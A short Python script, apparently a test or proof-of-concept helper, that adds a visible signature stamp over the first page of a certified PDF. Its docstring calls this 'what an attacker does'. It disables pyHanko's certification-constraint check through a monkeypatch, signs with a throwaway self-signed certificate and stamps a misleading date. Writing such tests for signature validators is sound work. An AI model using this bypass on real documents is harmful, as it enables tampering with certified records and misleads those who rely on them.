"""Draws over the first page of a sealed PDF with the picture of a further signature: sneak_with_pyhanko.py FILE OUT

What an attacker does, whose software asks for nobody's leave. Certificate and key are made here and go with this process.
"""

import datetime
import sys

from asn1crypto import keys, x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.stamp import TextStampStyle
from pyhanko_certvalidator.registry import SimpleCertificateStore

# pyHanko itself refuses to sign what is certified against any change.
signers.PdfSigner._enforce_certification_constraints = lambda self, reader: None

now = datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)
key = ec.generate_private_key(ec.SECP256R1())
name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Somebody")])
certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
               .serial_number(x509.random_serial_number())
               .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=1))
               .sign(key, hashes.SHA256()))
private = key.private_bytes(serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
signer = signers.SimpleSigner(asn1_x509.Certificate.load(certificate.public_bytes(serialization.Encoding.DER)),
                              keys.PrivateKeyInfo.load(private), SimpleCertificateStore())
meta = signers.PdfSignatureMetadata(field_name="Sneaked", md_algorithm="sha256", subfilter=fields.SigSeedSubFilter.PADES)
place = fields.SigFieldSpec("Sneaked", on_page=0, box=(60, 60, 260, 140))
with open(sys.argv[1], "rb") as source, open(sys.argv[2], "wb") as target:
    signers.PdfSigner(meta, signer, stamp_style=TextStampStyle(stamp_text="2099-12-31", background=None),
                      new_field_spec=place).sign_pdf(IncrementalPdfFileWriter(source), output=target)
